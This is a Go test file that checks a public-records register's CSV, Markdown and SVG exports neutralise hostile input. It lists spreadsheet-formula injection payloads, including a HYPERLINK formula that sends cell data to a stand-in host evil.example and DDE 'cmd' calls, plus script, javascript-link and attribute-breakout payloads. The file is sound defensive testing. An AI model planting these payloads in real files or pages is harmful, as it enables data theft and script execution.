package register_test

import (
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"io"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/puntodiascolto/ascolto/access"
	"github.com/puntodiascolto/ascolto/deadline"
	"github.com/puntodiascolto/ascolto/register"
	"github.com/puntodiascolto/ascolto/register/council"
)

// hostile are values an officer or an attacker could type into any field
// that ends up published: spreadsheet formulas (OWASP CSV injection, with
// the variants that hide the trigger behind white space, a separator or a
// full-width sign) and Markdown, HTML and SVG markup.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"clic")`,
	"+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
	"\t=1+1", "\r=1+1", " =1+1", "\n=1+1", "\uff1d1+1", "ok;=1+1", "ok,=1+1",
	`<script>alert(1)</script>`, `[clic](javascript:alert(1))`, `](javascript:alert(1))`,
	"a|b|c", "prima riga\nseconda riga\r\n# titolo", `" onload="alert(1)`, "`codice`", "&lt;script&gt;",
	"![img](http://evil.example/x.png)", "**grassetto** _corsivo_ ~~barrato~~", "\x00\x1b[31m",
}

// formulaStart reports whether a spreadsheet would take cell as a formula.
func formulaStart(cell string) bool {
	if cell == "" {
		return false
	}
	if cell[0] == '\t' || cell[0] == '\r' {
		return true
	}
	t := strings.TrimLeft(cell, " \t\r\n\u00a0\u3000")
	return t != "" && (strings.ContainsRune("=+-@", rune(t[0])) || strings.HasPrefix(t, "\uff1d"))
}

// readAsSpreadsheet reads a CSV the way a spreadsheet imports it: the
// separator given, quotes honoured, a BOM dropped.
func readAsSpreadsheet(t *testing.T, b []byte, comma rune) [][]string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\uFEFF"))))
	r.Comma = comma
	recs, err := r.ReadAll()
	require.NoError(t, err)
	return recs
}

// TestCSVInjection_RegisterNeutralisesEveryTextField (OWASP, CSV
// injection): a hostile value in every text field of the register comes
// back, read as a spreadsheet reads it, as text starting with a single
// quote, never as a formula; a value that is not a formula is untouched.
func TestCSVInjection_RegisterNeutralisesEveryTextField(t *testing.T) {
	day := deadline.MustDate(2026, 2, 2)
	var rows []register.Entry
	for _, h := range hostile {
		rows = append(rows, register.Entry{
			Kind: access.Kind(h), Protocol: h, ProtocolDate: day, Filed: day, Subject: h, Office: h, Channel: h,
			Forwarded: h, Outcome: h, Decided: day, Reasons: h,
			Review:    &register.EntryReview{Filed: day, Outcome: h, Reasons: h},
			Ombudsman: &register.EntryOmbudsman{Filed: day, Outcome: h},
			Appeal:    &register.EntryAppeal{Filed: day, Outcome: h},
		})
	}
	for _, comma := range []rune{',', ';'} {
		var b bytes.Buffer
		require.NoError(t, register.WriteCSV(&b, register.Seq(rows), register.CSVOptions{Comma: comma, BOM: true}))
		recs := readAsSpreadsheet(t, b.Bytes(), comma)
		require.Len(t, recs, len(rows)+1)
		for i, rec := range recs {
			require.Len(t, rec, len(register.Headings()), "row %d: a separator in a value split a cell", i)
			for j, cell := range rec {
				require.False(t, formulaStart(cell), "row %d column %q: %q reads as a formula", i, register.Headings()[j], cell)
			}
		}
		for i, h := range hostile {
			rec := recs[i+1]
			// encoding/csv, like spreadsheets, reads a quoted CRLF as LF.
			require.Equal(t, strings.ReplaceAll(register.Neutralise(h), "\r\n", "\n"), rec[4], "Oggetto della richiesta")
			if formulaStart(h) {
				require.Equal(t, "'"+h, rec[1], "a formula gets a quote in front and nothing else changes")
				require.Contains(t, b.String(), `"'`+strings.ReplaceAll(h, `"`, `""`)+`"`, "a neutralised cell is also quoted")
			} else {
				require.Equal(t, strings.ReplaceAll(h, "\r\n", "\n"), rec[1], "a value that is not a formula is published as it is")
			}
		}
	}
}

// TestCSVInjection_ReportTextNeutralisedFiguresNumbers: the report's CSV
// neutralises every label (offices, kinds, section titles, dimensions,
// groups) and writes every figure as a number a spreadsheet can sum.
func TestCSVInjection_ReportTextNeutralisedFiguresNumbers(t *testing.T) {
	r := hostileReport()
	for _, comma := range []rune{',', ';'} {
		var b bytes.Buffer
		require.NoError(t, r.WriteCSV(&b, register.CSVOptions{Comma: comma}))
		recs := readAsSpreadsheet(t, b.Bytes(), comma)
		require.Greater(t, len(recs), 100)
		for i, rec := range recs {
			require.Len(t, rec, 5, "row %d", i)
			for _, cell := range rec {
				require.False(t, formulaStart(cell), "row %d: %q reads as a formula", i, cell)
			}
			if i == 0 || rec[4] == "" && rec[0] == "interrogazioni" {
				continue
			}
			for _, n := range rec[3:] {
				_, err := strconv.ParseFloat(n, 64)
				require.NoError(t, err, "row %d: figure %q is not a number", i, n)
			}
		}
	}
}

// hostileReport is a report whose every text field holds hostile values.
func hostileReport() register.Report {
	h := func(i int) string { return hostile[i%len(hostile)] }
	steps := func(i int) deadline.Deadline {
		var x deadline.Explanation
		for j := range 3 {
			x.Steps = append(x.Steps, deadline.Step{Text: h(i + j)})
		}
		return deadline.Deadline{Name: h(i), Due: deadline.MustDate(2026, 1, 10), Explanation: x}
	}
	q1 := register.MustQuarter(2026, 1)
	a := &register.AccessSection{}
	cs := &register.CaseSection{Title: h(0)}
	cr := &council.QuestionReport{From: q1.From, To: q1.To}
	for i := range hostile {
		f := register.AccessFigures{Received: 3, Decided: 2, InTime: 1, Late: 1}
		a.ByKind = append(a.ByKind, register.AccessGroup{Key: h(i), Label: h(i), Figures: f})
		a.ByOffice = append(a.ByOffice, register.AccessGroup{Key: h(i), Label: h(i), Figures: f, Previous: f})
		a.Overdue = append(a.Overdue, register.OverdueRequest{Protocol: h(i), Kind: access.Kind(h(i + 1)), Office: h(i + 2),
			Received: q1.From, DaysLate: 3, Missed: []deadline.Deadline{steps(i)}})
		cs.Breakdowns = append(cs.Breakdowns, register.Breakdown{Dimension: h(i), Groups: []register.CaseGroup{{Key: h(i + 1)}}})
		cr.Overdue = append(cr.Overdue, council.OverdueAct{Body: council.Assemblea, Kind: council.Kind(h(i)), Addressee: h(i + 1),
			Subject: h(i + 2), Filed: q1.From, Deadline: steps(i + 3)})
	}
	return register.Report{Title: h(11), Period: q1, Previous: q1.Previous(), Access: a, Complaints: cs, Petitions: cs, Council: cr}
}

// unescaped matches Markdown syntax that escaping must have disarmed: a
// link or image target, an HTML tag, an entity the text did not mean.
var unescaped = regexp.MustCompile(`(^|[^\\])\]\(|<[a-zA-Z/!]|(^|[^\\])!\[`)

// TestMarkdownInjection_EveryFieldInert: a report with hostile names,
// protocol numbers, labels and explanations in every field renders as text:
// no raw HTML, no link or image, no line break inside a value, every table
// row with its header's number of cells.
func TestMarkdownInjection_EveryFieldInert(t *testing.T) {
	var b bytes.Buffer
	require.NoError(t, hostileReport().WriteMarkdown(&b, register.MarkdownOptions{MaxOverdue: 1000}))
	md := b.String()
	require.NotContains(t, md, "<script")
	require.NotContains(t, md, "\r")
	cells := -1
	for n, line := range strings.Split(md, "\n") {
		require.False(t, unescaped.MatchString(line), "line %d: live markup in %q", n+1, line)
		for _, s := range []string{"seconda riga", "# titolo"} {
			require.False(t, strings.HasPrefix(strings.TrimLeft(line, " -"), s), "line %d: a value's line break reached the output: %q", n+1, line)
		}
		if !strings.HasPrefix(line, "|") {
			cells = -1
			continue
		}
		c := len(regexp.MustCompile(`(^|[^\\])\|`).FindAllString(line, -1)) - 1
		if cells < 0 {
			cells = c
		}
		require.Equal(t, cells, c, "line %d: %q has %d cells, its table %d", n+1, line, c, cells)
	}
	for _, s := range []string{`\](javascript:alert(1))`, `&lt;script&gt;`, `&amp;lt;script&amp;gt;`, `a\|b\|c`, `!\[img\]`} {
		require.True(t, strings.Contains(md, s), "%q is not shown as text", s)
	}
}

// TestSVGInjection_WellFormedAndInert: hostile office names (quotes that
// would close an attribute, tags, control characters) leave the chart
// well-formed XML, with no element or attribute they did not come with,
// and the names readable as text.
func TestSVGInjection_WellFormedAndInert(t *testing.T) {
	var b bytes.Buffer
	require.NoError(t, hostileReport().WriteSVG(&b))
	d := xml.NewDecoder(&b)
	texts := ""
	for {
		tok, err := d.Token()
		if err == io.EOF {
			break
		}
		require.NoError(t, err)
		switch x := tok.(type) {
		case xml.StartElement:
			require.Contains(t, []string{"svg", "title", "rect", "text", "line"}, x.Name.Local)
			for _, a := range x.Attr {
				require.False(t, strings.HasPrefix(strings.ToLower(a.Name.Local), "on"), "attribute %s", a.Name.Local)
			}
		case xml.CharData:
			texts += string(x)
		}
	}
	require.Contains(t, texts, `<script>alert(1)</script>`, "a name is shown as the text it is")
	require.Contains(t, texts, `" onload="alert(1)`)
}
